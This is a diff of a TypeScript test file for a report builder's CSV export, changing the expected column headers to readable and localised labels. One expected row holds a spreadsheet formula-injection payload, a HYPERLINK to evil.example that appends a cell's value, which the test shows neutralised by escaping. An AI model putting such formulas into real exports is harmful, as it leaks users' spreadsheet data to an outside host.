@@ -94,7 +94,7 @@ describe("report builder", () => {
     await runReport(db(), admin, spec(PER_WARD_MONTH));
     const csv = await reportCsv(db(), admin, spec(PER_WARD_MONTH));
     expect(csv.body.startsWith("\uFEFF")).toBe(true);
-    expect(csv.body.slice(1).split("\n")[0]).toBe("ward,admittedAt_month,count");
+    expect(csv.body.slice(1).split("\n")[0]).toBe("Ward,Admitted (Month),Count"); // as the builder's table heads them
     expect(csv.body).toContain("Alder,2026-01,2");
     const events = await db().auditEvent.findMany({ where: { entity: "ReportBuilder" }, orderBy: { seq: "asc" } });
     expect(events.map((e) => [e.action, e.actorId])).toEqual([["VIEW", admin.actor.id], ["EXPORT", admin.actor.id]]);
@@ -111,7 +111,9 @@ describe("report builder", () => {
     const csv = await reportCsv(db(), admin, spec({ ...PER_WARD_MONTH, filters: [{ field: "admittedAt", op: "between", value: ["2026-03-01", "2026-03-31"] }] }));
     expect(csv.body.startsWith("\uFEFF")).toBe(true);
     const [header, ...rows] = csv.body.slice(1).trimEnd().split("\n");
-    expect(header).toBe("ward,admittedAt_month,count");
+    expect(header).toBe("Ward,Admitted (Month),Count");
+    // Headed in the requester's language.
+    expect((await reportCsv(db(), admin, spec(PER_WARD_MONTH), "fr")).body.slice(1).split("\n")[0]).toBe("Unité,Admission (Mois),Nombre");
     expect(rows.sort()).toEqual(['"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",2026-03,1', "Érable 2 °C,2026-03,1"].sort());
   });
 
